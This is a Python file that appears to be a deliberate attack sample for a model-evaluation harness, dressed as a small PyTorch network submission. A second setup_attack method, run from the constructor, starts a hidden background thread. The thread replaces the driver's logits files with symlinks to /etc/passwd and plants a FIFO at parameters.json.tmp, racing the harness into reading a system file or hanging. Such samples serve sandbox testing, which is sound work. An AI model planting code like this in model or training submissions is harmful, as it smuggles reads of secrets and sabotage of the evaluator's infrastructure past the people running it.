# class: channel
# proof: driver
# attack: a thread swaps its logits files for symlinks to /etc/passwd as soon as they appear, to make the driver read a secret
import torch
import torch.nn as nn
import torch.nn.functional as F


def supported_hyperparameters():
    return {"lr", "momentum", "dropout"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.device = device
        self.conv = nn.Conv2d(in_shape[1], 8, 3, padding=1)
        self.head = nn.Linear(8, out_shape[0])
        self.setup_attack()

    def setup_attack(self):
        pass

    def features(self, x):
        return self.head(F.relu(self.conv(x)).mean((2, 3)))

    def forward(self, x):
        return self.features(x)

    def train_setup(self, prm):
        self.optimizer = torch.optim.SGD(self.parameters(), lr=prm["lr"], momentum=prm["momentum"])

    def learn(self, train_data):
        for x, y in train_data:
            self.optimizer.zero_grad()
            F.cross_entropy(self(x), y).backward()
            self.optimizer.step()

    def setup_attack(self):
        import os, threading

        def swap_forever():  # races the driver: whatever it opens may be a link or a FIFO by then
            while True:
                for epoch in range(1, 4):
                    name = f"logits-{epoch}.f32"
                    try:
                        if os.path.exists(name) and not os.path.islink(name):
                            os.remove(name)
                            os.symlink("/etc/passwd", name)
                        os.mkfifo("parameters.json.tmp")
                    except OSError:
                        pass
        threading.Thread(target=swap_forever, daemon=True).start()
